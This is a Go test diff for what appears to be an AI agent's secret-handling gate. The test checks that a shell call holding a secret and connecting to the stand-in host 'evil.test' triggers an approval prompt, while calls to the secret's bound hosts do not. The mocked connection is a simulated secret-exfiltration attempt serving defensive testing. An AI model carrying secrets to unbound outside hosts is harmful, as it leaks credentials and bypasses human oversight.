@@ -379,3 +379,37 @@ func TestRedactJSON(t *testing.T) {
 		}
 	}
 }
+
+// A call that has a secret may connect, unasked, to no host that the secret is not
+// bound to, also where the mode lets every call run.
+func TestSecretsStayWithTheirHosts(t *testing.T) {
+	for host, asks := range map[string]bool{"api.example.com": false, "a.example.org": false, "evil.test": true} {
+		r := newSecretRig(t)
+		r.gate.policy = mustPolicy(t, sentinelConfig{Mode: "auto"})
+		e := r.vault["HOST"]
+		e.Tools = []string{"shell"}
+		r.vault["HOST"] = e
+		tool := r.gate.tools["shell"]
+		tool.Execute = func(ctx context.Context, c *tools.Call) tools.Output {
+			c.Host.Exec(ctx, tools.Command{Argv: []string{"true"}})
+			return tools.Output{}
+		}
+		r.gate.tools["shell"] = tool
+		r.gate.host.Exec = func(ctx context.Context, c tools.Command) tools.ExecResult {
+			err := c.Connect(ctx, tools.Dest{Host: host, Port: 443, Method: "CONNECT"})
+			if err != nil {
+				t.Error(err)
+			}
+			return tools.ExecResult{Started: true}
+		}
+		c := &callState{id: "c_1", t: r.turn, tool: tool, plan: tools.Plan{Secrets: []tools.SecretUse{{Name: "HOST", Param: "env", Var: "K"}}},
+			j: tools.Judgement{Boxed: true, Network: true, Proxied: true, Egress: tools.Egress{Kind: tools.EgressHosts}}}
+		r.gate.run(context.Background(), c)
+		if (len(r.cards) > 0) != asks {
+			t.Errorf("%s: asked %d times", host, len(r.cards))
+		}
+		if asks && !slices.Contains(r.cards[0].Lines, "secret: HOST → shell, evil.test") {
+			t.Errorf("%q", r.cards[0].Lines)
+		}
+	}
+}
